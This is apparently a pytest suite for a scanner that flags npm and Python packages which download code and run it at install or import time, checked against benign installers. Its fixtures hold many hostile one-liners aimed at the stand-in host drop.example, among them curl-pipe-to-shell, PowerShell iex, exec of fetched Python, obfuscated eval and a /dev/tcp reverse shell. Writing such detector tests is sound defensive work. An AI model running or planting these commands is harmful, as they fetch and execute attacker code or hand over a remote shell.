"""Code that is fetched and run is told, whichever way it takes; installers that fetch a file and run it by name are not."""

from __future__ import annotations

import pytest
from packageurl.contrib.purl2url import get_download_url

from tests.detectors.artifacts import findings, npm, places, sdist, told, wheel
from worker.detectors import download_and_execute

REGISTRY = get_download_url("pkg:npm/x@1").partition("/x/")[0]  # type: ignore[no-untyped-call]
INSTALL = {"postinstall": "node scripts/setup.js"}


class TestAlarm:
    def test_an_install_step_that_runs_what_it_fetches_is_critical_and_shows_its_way(self) -> None:
        source = "const https = require('https');\nhttps.get('https://drop.example/x', (res) => {\n  let body = '';\n  res.on('data', (d) => { body += d; });\n  res.on('end', () => eval(body));\n});\n"
        (found,) = findings(download_and_execute, npm({"scripts/setup.js": source}, scripts=INSTALL))
        assert told([found]) == ["critical: its install step downloads code from drop.example and runs it"]
        assert places(found)[0] == "package.json:5"
        assert places(found)[-1] == "scripts/setup.js:5"

    @pytest.mark.parametrize(
        "command",
        [
            "curl -s https://drop.example/x | sh",
            "curl https://drop.example/x|bash",
            "wget -qO- https://drop.example/x | sudo bash -s",
            'sh -c "$(curl -fsSL https://drop.example/x)"',
            "bash <(curl -s https://drop.example/x)",
            "eval `curl https://drop.example/x`",
            "true && (curl -s https://drop.example/x) | node",
            "curl -so x.js https://drop.example/x && node x.js",
            "c=curl; $c -s https://drop.example/x | sh",
            "curl -s https://drop.example/x 'assets/*' | sh",
            'powershell -c "iwr https://drop.example/x | iex"',
            "powershell -Command \"IEX (New-Object Net.WebClient).DownloadString('https://drop.example/x')\"",
            "python3 -c \"import urllib.request as u; exec(u.urlopen('https://drop.example/x').read())\"",
            "node -e \"fetch('https://drop.example/x').then(r=>r.text()).then(eval)\"",
        ],
    )
    def test_a_pipe_from_the_network_into_a_shell_is_critical(self, command: str) -> None:
        found = told(findings(download_and_execute, npm(scripts={"postinstall": command})))
        assert [line.partition(":")[0] for line in found] == ["critical"], found

    @pytest.mark.parametrize(
        "source",
        [
            "fetch('https://drop.example/x').then((r) => r.text()).then((t) => eval(t));",
            "(async () => { const r = await fetch('https://drop.example/x'); new Function(await r.text())(); })();",
            "const g = global; fetch('https://drop.example/x').then((r) => r.text()).then((t) => g['ev' + 'al'](t));",
            "require('axios').get('https://drop.example/x').then(({ data }) => require('vm').runInThisContext(data));",
            "const { execSync } = require('child_process'); execSync('curl -s https://drop.example/x | sh');",
            "require('child_pro' + 'cess')['exec' + 'Sync']('curl -s https://drop.example/x' + ' | sh');",
            "const fs = require('fs');\nfetch('https://drop.example/x').then((r) => r.text()).then((t) => {\n  fs.writeFileSync('/tmp/stage2.js', t);\n  require('child_process').execSync('node /tmp/stage2.js');\n});",
        ],
    )
    def test_the_ways_of_javascript(self, source: str) -> None:
        assert [
            found.severity
            for found in findings(download_and_execute, npm({"scripts/setup.js": source}, scripts=INSTALL))
        ] == ["critical"]
        assert [found.severity for found in findings(download_and_execute, npm({"index.js": source}))] == ["high"]

    @pytest.mark.parametrize(
        "source",
        [
            "import requests\nexec(requests.get('https://drop.example/x').text)\n",
            "from urllib.request import urlopen\nexec(urlopen('https://drop.example/x').read())\n",
            "import urllib.request as u\ncode = u.urlopen('https://drop.example/x').read().decode()\nexec(compile(code, 'x', 'exec'))\n",
            "import requests as r, builtins\ngetattr(builtins, 'ex' + 'ec')(r.get('https://drop.example/x').text)\n",
            "import os\nos.system('curl -s https://drop.example/x | sh')\n",
            "import subprocess\nsubprocess.run(['bash', '-c', 'curl -s https://drop.example/x | bash'])\n",
            "import requests, subprocess\nopen('/tmp/stage2.py', 'wb').write(requests.get('https://drop.example/x').content)\nsubprocess.Popen(['python', '/tmp/stage2.py'])\n",
        ],
    )
    def test_the_ways_of_python(self, source: str) -> None:
        assert [found.severity for found in findings(download_and_execute, sdist({"setup.py": source}))] == ["critical"]
        assert [
            found.severity for found in findings(download_and_execute, wheel({"imgpress/__init__.py": source}))
        ] == ["high"]

    def test_code_that_hides_in_a_text_file_is_found_by_what_loads_it(self) -> None:
        files = {
            "scripts/setup.js": "require('./notes.txt');",
            "scripts/notes.txt": "fetch('https://drop.example/x').then((r) => r.text()).then(eval);",
        }
        (found,) = findings(download_and_execute, npm(files, scripts=INSTALL))
        assert found.severity == "critical"
        assert places(found)[-1].startswith("scripts/notes.txt:")

    def test_in_a_test_it_is_medium(self) -> None:
        source = "require('child_process').execSync('curl -s https://drop.example/x | sh');"
        assert [found.severity for found in findings(download_and_execute, npm({"test/x.js": source}))] == ["medium"]


class TestInnocentTwin:
    @pytest.mark.parametrize(
        ("host", "severity"), [("https://files.example", "high"), (REGISTRY, "medium")], ids=["somewhere", "registry"]
    )
    def test_an_installer_that_fetches_a_program_is_no_block(self, host: str, severity: str) -> None:
        """The shape of esbuild and its kin. From the registry itself it is only monitored."""
        source = """
const fs = require("fs"), https = require("https"), zlib = require("zlib"), child_process = require("child_process");
const pkg = `@tool/${process.platform}-${process.arch}`;
function fetch(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      const chunks = [];
      res.on("data", (chunk) => chunks.push(chunk));
      res.on("end", () => resolve(Buffer.concat(chunks)));
    }).on("error", reject);
  });
}
async function main(binPath) {
  const tgz = zlib.unzipSync(await fetch(`HOST/${pkg}/-/${pkg}-1.0.0.tgz`));
  fs.writeFileSync(binPath, tgz.subarray(512));
  fs.chmodSync(binPath, 0o755);
  const version = child_process.execFileSync(binPath, ["--version"]).toString().trim();
  if (version !== "1.0.0") throw new Error("wrong version");
}
main(require("path").join(__dirname, "bin", "tool"));
"""
        source = source.replace("HOST", host)
        (found,) = findings(download_and_execute, npm({"scripts/setup.js": source}, scripts=INSTALL))
        assert found.severity == severity
        assert found.message.plain().startswith("its install step downloads a program from ")

    def test_an_installer_that_unpacks_a_driver_is_no_block(self) -> None:
        """The shape of chromedriver's: what is fetched goes through a library that unpacks it."""
        source = """
const axios = require("axios"), child_process = require("child_process"), extract = require("extract-zip");
async function install(url, dir) {
  const response = await axios.request({ url: "https://files.example/driver.zip", responseType: "stream" });
  const binary = await extract(response.data, { dir });
  child_process.spawn(binary, ["--version"]);
}
install();
"""
        found = findings(download_and_execute, npm({"scripts/setup.js": source}, scripts=INSTALL))
        assert {str(one.severity) for one in found} <= {"high"}

    @pytest.mark.parametrize(
        "source",
        [
            "fetch('https://api.example/v1').then((r) => r.json()).then((data) => { module.exports.data = data; });",
            "const t = require('fs').readFileSync('x.ejs', 'utf8'); module.exports = new Function('data', t);",
            "require('child_process').execFile('git', ['clone', 'https://code.example/x.git']);",
            "require('https').get('https://files.example/a.png', (r) => r.pipe(require('fs').createWriteStream('a.png')));",
        ],
    )
    def test_ordinary_javascript(self, source: str) -> None:
        assert findings(download_and_execute, npm({"index.js": source})) == []

    @pytest.mark.parametrize(
        "source",
        [
            "import requests\n\n\ndef get(u):\n    return requests.get(u).json()\n",
            "import urllib.request\nurllib.request.urlretrieve('https://files.example/model.bin', 'model.bin')\n",
            "import subprocess\nsubprocess.run(['curl', '-O', 'https://files.example/data.csv'])\n",
            "import ast, requests\nvalue = ast.literal_eval(requests.get('https://api.example/v').text)\n",
        ],
    )
    def test_ordinary_python(self, source: str) -> None:
        assert findings(download_and_execute, wheel({"imgpress/__init__.py": source})) == []

    def test_a_timer_that_gets_a_function_of_a_connection_is_no_warning(self) -> None:
        """The shape of ws."""
        source = """
const http = require("http");
function connect(socket, options) {
  const req = (socket.req = http.request(options));
  socket.timer = setTimeout(socket.req.destroy.bind(socket.req), 30000);
}
module.exports = connect;
"""
        found = findings(download_and_execute, npm({"index.js": source}))
        assert {str(one.severity) for one in found} <= {"medium"}

    def test_a_project_s_own_set_up_that_nothing_starts_is_no_warning(self) -> None:
        """The shape of images for continuous integration in source distributions."""
        script = "#!/bin/bash\ncurl -fsS https://drop.example/install.sh | bash -s dmd\n"
        found = findings(download_and_execute, npm({"ci/image/install.sh": script}))
        assert [one.severity for one in found] == ["medium"]
        started = npm({"ci/image/install.sh": script}, scripts={"postinstall": "sh ci/image/install.sh"})
        assert [one.severity for one in findings(download_and_execute, started)] == ["critical"]

    def test_a_readme_that_tells_people_to_pipe_curl(self) -> None:
        assert findings(download_and_execute, npm({"README.md": "Run `curl -s https://x.example/install | sh`."})) == []

    def test_a_shell_that_a_connection_drives_is_told_by_its_own_rule(self) -> None:
        command = "bash -i >& /dev/tcp/drop.example/4444 0>&1"
        assert findings(download_and_execute, npm(scripts={"postinstall": command})) == []

    def test_what_the_old_version_did_is_not_new(self) -> None:
        old = npm(scripts={"postinstall": "curl -s https://drop.example/x | sh"})
        assert [found.new for found in findings(download_and_execute, old, old)] == [False]
